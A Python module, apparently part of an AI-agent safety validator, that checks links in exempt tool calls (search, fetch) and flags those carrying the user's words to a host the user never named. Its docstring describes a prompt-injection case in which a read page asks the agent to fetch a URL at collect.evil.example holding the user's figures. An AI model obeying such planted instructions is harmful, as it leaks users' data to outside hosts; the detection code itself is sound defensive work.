"""Egress through an exempt tool: the user's words leaving in a link to a host the user never named.

An exempt tool (a web search, a page fetch) runs with no check, so it is a free channel out: a page
the agent read can ask it to fetch ``https://collect.evil.example/?q=<the user's figures>``. Before
an exempt call runs, each link in its arguments is looked at: when its host stands nowhere in the
user's own words and its path or query carries a word of the user's that no tool output holds (their
data, not something a page linked to), the call goes to the user. Anything else runs as before:
following a link a search returned, or fetching a page the user named, is not egress.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import unquote_plus, urlsplit

from validator.gate.entities import extract_entities
from validator.gate.index import other_index, user_index
from validator.gate.paths import string_leaves
from validator.inputs.transcript import Transcript
from validator.language.rules import ALL_ON, Rule, Rules

__all__ = ["Egress", "egress"]

_WORD = re.compile(r"[^\W_]{4,}|\d[\d.,]{2,}\d")
"""Words of four letters or more, and numbers of four characters or more, in a link's path and query."""


@dataclass(frozen=True, slots=True)
class Egress:
    """A link that would carry the user's words to a host they never named."""

    path: str
    host: str
    carried: tuple[str, ...]


def egress(
    transcript: Transcript, args: Mapping[str, Any], user_id: str | None = None, rules: Rules = ALL_ON
) -> Egress | None:
    """The first link in ``args`` that carries the user's words to a host the user never named, if any."""
    if not rules.on(Rule.EGRESS):
        return None
    users, others = user_index(transcript, user_id, rules), other_index(transcript, user_id, rules)

    def _user_has(text: str) -> bool:
        return bool(users.containing(text.casefold(), 1))

    for path, text in string_leaves(dict(args), ""):
        for entity in extract_entities(text):
            if entity.kind not in ("url", "domain") or _user_has(entity.key):
                continue
            raw = entity.value if "://" in entity.value else "//" + entity.value
            try:
                parts = urlsplit(raw)
            except ValueError:
                continue
            words = set(_WORD.findall(unquote_plus(f"{parts.path} {parts.query}")))
            carried = tuple(sorted(w for w in words if _user_has(w) and not others.containing(w.casefold(), 1)))
            if carried:
                return Egress(path, entity.key, carried)
    return None
